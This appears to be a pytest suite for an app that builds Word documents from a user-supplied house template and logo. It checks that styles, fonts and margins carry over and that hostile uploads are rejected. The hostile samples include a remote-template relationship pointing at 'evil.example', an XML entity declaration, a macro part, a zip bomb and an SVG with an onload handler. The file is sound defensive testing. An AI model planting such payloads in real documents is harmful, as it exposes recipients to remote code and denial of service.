"""A house dresses its papers as it likes, and every file stays sound."""

from __future__ import annotations

import shutil
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest

from app.core.errors import RuleViolation
from app.documents.blocks import Copy
from app.documents.lint import lint_docx
from app.documents.look import REFERENCE, Look, check_logo, prepare_reference, sample_document
from app.documents.writer import write
from app.wording.queries import example_values
from tests.documents.document_samples import DAY, draft, library
from tests.ooxml import validate

pytestmark = pytest.mark.long

OURS = REFERENCE.read_bytes()


def parts(data: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def changed(**replaced: bytes) -> bytes:
    """Our reference with some parts replaced or added; `__` stands for a slash."""
    out = BytesIO()
    names = {name.replace("__", "/"): data for name, data in replaced.items()}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (parts(OURS) | names).items():
            archive.writestr(name, data)
    return out.getvalue()


def styles(before: str = "", after: str = "") -> bytes:
    return parts(OURS)["word/styles.xml"].decode().replace(before, after).encode()


def picture(width: int = 40, height: int = 20) -> bytes:
    """A small white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\x00" + b"\xff" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def sound(data: bytes, folder: Path) -> None:
    assert lint_docx(data) == ()
    (folder / "a.docx").write_bytes(data)
    assert validate(folder / "a.docx") == []


def test_our_own_reference_comes_back_whole(tmp_path: Path) -> None:
    dress, findings = prepare_reference(OURS)
    assert findings.renamed == findings.added == ()
    sound(write(sample_document("House", DAY), look=Look(dress)), tmp_path)


def test_fonts_and_margins_of_the_house_are_taken(tmp_path: Path) -> None:
    document = parts(OURS)["word/document.xml"].decode().replace('w:left="1584"', 'w:left="2000"').encode()
    dress, findings = prepare_reference(
        changed(**{"word/styles.xml": styles("Times New Roman", "Georgia"), "word/document.xml": document})
    )
    made = parts(write(sample_document("House", DAY), look=Look(dress)))
    assert b"Georgia" in made["word/styles.xml"] and b"Times New Roman" not in made["word/styles.xml"]
    assert b'w:left="2000"' in made["word/document.xml"]
    assert findings.added == ()


def test_a_style_under_another_id_is_found_by_its_name_and_missing_ones_are_added(tmp_path: Path) -> None:
    xml = (
        styles()
        .decode()
        .replace('w:styleId="Heading1"', 'w:styleId="berschrift1"')
        .replace('w:val="Heading1"', 'w:val="berschrift1"')
    )
    start = xml.rindex("<w:style ", 0, xml.index('w:styleId="Gap"'))
    xml = xml[:start] + xml[xml.index("</w:style>", start) + len("</w:style>") :]
    dress, findings = prepare_reference(changed(**{"word/styles.xml": xml.encode()}))
    assert [name.casefold() for name in findings.renamed] == ["heading 1"]
    assert len(findings.added) == 1
    data = write(draft("D6", {}), look=Look(dress))
    sound(data, tmp_path)
    assert b"berschrift" not in parts(data)["word/styles.xml"]
    assert b"<w:numPr>" in parts(data)["word/styles.xml"]


def test_numbering_is_ours_whatever_the_file_says(tmp_path: Path) -> None:
    theirs = parts(OURS)
    del theirs["word/numbering.xml"]
    without = styles("<w:numPr>", '<w:numPr><w:ilvl w:val="3"/>')
    dress, _findings = prepare_reference(changed(**{"word/styles.xml": without}))
    assert parts(dress)["word/numbering.xml"] == parts(OURS)["word/numbering.xml"]
    sound(write(draft("D2", {}), look=Look(dress)), tmp_path)


@pytest.fixture(scope="session")
def resaved(tmp_path_factory: pytest.TempPathFactory) -> Iterator[bytes]:
    """Our reference as another program saves it."""
    program = shutil.which("soffice")
    if program is None:
        yield OURS
        return
    folder = tmp_path_factory.mktemp("look")
    (folder / "in").mkdir()
    (folder / "in" / "r.docx").write_bytes(OURS)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [
        program,
        profile,
        "--headless",
        "--convert-to",
        "docx",
        "--outdir",
        str(folder),
        str(folder / "in" / "r.docx"),
    ]
    subprocess.run(command, capture_output=True, timeout=120, check=True)
    yield (folder / "r.docx").read_bytes()


def dressed(resaved: bytes, copy: Copy) -> Iterator[tuple[str, bytes]]:
    """Each kind, filled, with a logo and a letterhead in what another program saved."""
    look = Look(prepare_reference(resaved)[0], picture(), ("Lantern Hill Hospice", "555-0100"))
    values = example_values(library())
    for kind in library().kinds:
        yield kind, write(draft(kind, values, copy=copy), look=look)


@pytest.mark.parametrize("copy", list(Copy))
def test_every_kind_is_sound_in_a_dress_that_another_program_saved(
    resaved: bytes, copy: Copy, tmp_path: Path
) -> None:
    """Microsoft's check takes a second: it sees a letter, a contract, an amendment; in the audit all."""
    for kind, data in dressed(resaved, copy):
        assert lint_docx(data) == ()
        if kind in ("D1", "D2", "D6"):
            sound(data, tmp_path)


@pytest.mark.audit
@pytest.mark.parametrize("copy", list(Copy))
def test_every_kind_in_that_dress_is_sound_for_microsoft(resaved: bytes, copy: Copy, tmp_path: Path) -> None:
    for _kind, data in dressed(resaved, copy):
        sound(data, tmp_path)


def test_logo_and_letterhead_stand_above_the_title_and_nowhere_else() -> None:
    look = Look(None, picture(), ("Lantern Hill Hospice", "12 Hill Road"))
    letter = parts(write(draft("D1", {}), look=look))
    text = letter["word/document.xml"].decode()
    assert text.index("Lantern Hill Hospice") < text.index("12 Hill Road") < text.index("Letter of intent")
    assert any(name.startswith("word/media/") for name in letter)
    assert "Lantern Hill" not in parts(write(draft("D1", {}), look=Look()))["word/document.xml"].decode()


OFFICE = "http://schemas.openxmlformats.org"
VIRUS = (
    f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{OFFICE}/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
).encode()


def test_nothing_but_styles_theme_and_page_is_taken(tmp_path: Path) -> None:
    hostile = changed(
        **{
            "word/_rels/settings.xml.rels": VIRUS,
            "word/media/x.png": b"x",
            "word/header1.xml": b"<w:hdr/>",
            "customXml/item1.xml": b"<a/>",
        }
    )
    dress, _findings = prepare_reference(hostile)
    assert set(parts(dress)) == set(parts(OURS))
    assert b"evil" not in b"".join(parts(dress).values())
    sound(write(sample_document("House", DAY), look=Look(dress)), tmp_path)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"MZ",
        b"PK\x03\x04",
        changed(**{"word/vbaProject.bin": b"x"}),
        changed(**{"word/bomb.xml": b"0" * (70 * 1024 * 1024)}),
        changed(**{"word/styles.xml": b"<broken"}),
        changed(**{"word/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        b"x" * (6 * 1024 * 1024),
    ],
    ids=["empty", "program", "zip", "macros", "bomb", "broken", "entity", "large"],
)
def test_a_hostile_reference_is_refused(data: bytes) -> None:
    with pytest.raises(RuleViolation):
        prepare_reference(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"GIF89a",
        b"<svg onload='x'/>",
        b"\x89PNG\r\n\x1a\nbroken",
        picture(5000, 2),
        b"\x89PNG\r\n\x1a\n" + b"0" * 2_000_000,
    ],
    ids=["empty", "gif", "svg", "broken", "wide", "large"],
)
def test_only_a_small_png_or_jpeg_is_a_logo(data: bytes) -> None:
    with pytest.raises(RuleViolation):
        check_logo(data)


def test_a_good_logo_is_taken() -> None:
    check_logo(picture())
